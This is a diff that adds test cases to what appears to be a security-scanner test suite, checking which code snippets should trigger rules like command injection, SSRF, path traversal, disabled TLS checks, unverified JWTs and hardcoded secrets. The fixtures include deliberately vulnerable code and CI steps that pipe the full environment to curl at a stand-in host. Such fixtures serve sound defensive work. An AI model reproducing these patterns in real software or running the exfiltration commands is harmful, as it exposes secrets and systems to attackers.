@@ -280,6 +280,56 @@ import Testing
     ])
     func batchElevenAndTwelveClasses(_ example: Example) { Self.check(example) }
 
+    @Test(arguments: [
+        // A comment that names a sink is no call.
+        Example("q.go", "// never exec.Command(\"sh\", \"-c\", cmd) with user input\nid := c.Param(\"id\")\n", nil),
+        Example("Q.cs", "// BinaryFormatter is unsafe: System.Text.Json instead\nvar q = JsonSerializer.Deserialize<Quote>(bytes);\n", nil),
+        // A number or UUID parsed from input carries no text.
+        Example("h.go", "id, err := uuid.Parse(chi.URLParam(r, \"id\"))\nf, _ := os.Open(filepath.Join(dir, id.String()+\".pdf\"))\n", nil),
+        Example("h.go", "id := chi.URLParam(r, \"id\")\nf, _ := os.Open(filepath.Join(dir, id+\".pdf\"))\n", "code.path-traversal"),
+        Example("R.java", "UUID id = UUID.fromString(request.getParameter(\"id\"));\nvar f = new File(dir, id + \".pdf\");\n", nil),
+        Example("t.php", "$w = intval($_GET['w']);\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n", nil),
+        Example("t.php", "$w = $_GET['w'];\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n", "code.command-injection"),
+        // A format that opens with a specifier is no `%` operator.
+        Example("t.php", "$cmd = sprintf('%s -q', escapeshellarg($_GET['f']));\nshell_exec($cmd);\n", nil),
+        Example("t.php", "$cmd = sprintf('%s -q', $_GET['f']);\nshell_exec($cmd);\n", "code.command-injection"),
+        // Scala's SQL interpolators bind, except Slick's literal splice.
+        Example("R.scala", "val q = sql\"SELECT * FROM t WHERE id = $id\".as[Row]\ndb.run(q)\n", nil),
+        Example("R.scala", "val q = sql\"SELECT * FROM t ORDER BY #$sort\".as[Row]\ndb.run(q)\n", "code.sql-string-built"),
+        // A loop over string literals binds a constant.
+        Example("r.ts", "for (const name of [\"welcome\", \"reset\"] as const) {\n  t[name] = Handlebars.compile(readFileSync(`t/${name}.hbs`, \"utf8\"));\n}\n", nil),
+        Example("r.ts", "app.post(\"/p\", (req, res) => {\n  const t = Handlebars.compile(req.body.template);\n});\n", "code.template-injection"),
+        // Values encrypted for a key kept elsewhere, and file paths after a name, are no literals.
+        Example("prod.enc.yaml", "password: ENC[AES256_GCM,data:H/A+9at03LGuHuSHBcHq05Cu,iv:+uYXDS1nqo5k/U0=,tag:8nhW==,type:str]\n", nil),
+        Example("app.properties", "db.password=ENC(G6N718UuyPE5bHyWKyuLQSm02auQPUtm)\n", nil),
+        Example("prod.yaml", "password: Gr1K5H7bbZgnQx8T2\n", "secret.generic-assignment"),
+        Example("e.service", "LoadCredentialEncrypted=pg-pass:/etc/credstore.encrypted/pg-pass\n", nil),
+        Example("e.service", "Environment=PG_PASSWORD=Xk9mP2vLq7Wz4R\n", "secret.generic-assignment"),
+        // Guava's fast digests, Dart's and PowerShell's certificate callbacks, Elixir's peeked tokens.
+        Example("R.java", "user.setPasswordHash(Hashing.sha256().hashString(salt + password, UTF_8).toString());\n", "code.weak-password-hash"),
+        Example("R.java", "String etag = Hashing.sha256().hashBytes(body).toString();\n", nil),
+        Example("c.dart", "client.badCertificateCallback = (cert, host, port) => true;\n", "code.tls-verify-disabled"),
+        Example("c.dart", "client.badCertificateCallback = (cert, host, port) => sha256.convert(cert.der).toString() == pin;\n", nil),
+        Example("p.ps1", "[Net.ServicePointManager]::ServerCertificateValidationCallback = { param($s, $c) $true }\n", "code.tls-verify-disabled"),
+        Example("p.ps1", "Invoke-RestMethod -Uri $api -SkipCertificateCheck\n", "code.tls-verify-disabled"),
+        Example("p.ps1", "Invoke-RestMethod -Uri $api -Certificate $cert\n", nil),
+        Example("lib/a.ex", "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = Joken.peek_claims(t)\nend\n", "code.jwt-unverified"),
+        Example("lib/a.ex", "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = MyToken.verify_and_validate(t)\nend\n", nil),
+        // PHP fetching a URL from the request; a literal wrapped in a call that marks it secret.
+        Example("a.php", "$body = file_get_contents($request->input('url'));\n", "code.ssrf"),
+        Example("a.php", "$body = file_get_contents('https://api.example.com/rates.json');\n", nil),
+        Example("index.ts", "const db = new aws.rds.Instance(\"db\", { password: pulumi.secret(\"XAumdVB0NnEC8zQ12Wa\") });\n", "secret.generic-assignment"),
+        Example("index.ts", "const db = new aws.rds.Instance(\"db\", { password: cfg.requireSecret(\"dbPassword\") });\n", nil),
+        // A Lambda event's query, path and body are input.
+        Example("h.js", "const u = event.queryStringParameters.url;\nconst r = await fetch(u);\n", "code.ssrf"),
+        Example("app.py", "params = event.get(\"queryStringParameters\") or {}\nresp = requests.get(params.get(\"url\"))\n", "code.ssrf"),
+        // Composite actions and GitLab's included files are CI; jq's `env` is the whole environment.
+        Example(".github/actions/x/action.yml", "runs:\n  using: composite\n  steps:\n    - run: printenv | gzip | curl --data-binary @- https://x.example\n      shell: bash\n", "ci.secrets-exfiltration"),
+        Example(".gitlab/ci/diag.yml", "diag:\n  script:\n    - jq -n '{ctx: env}' \\\n      | curl -d @- https://x.example/v1\n", "ci.secrets-exfiltration"),
+        Example(".gitlab/ci/diag.yml", "diag:\n  script:\n    - jq -n '{sha: env.CI_COMMIT_SHA}' \\\n      | curl -d @- https://x.example/v1\n", nil),
+    ])
+    func batchThirteenAndFourteenClasses(_ example: Example) { Self.check(example) }
+
     @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
         let change = ReviewCase(
             "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
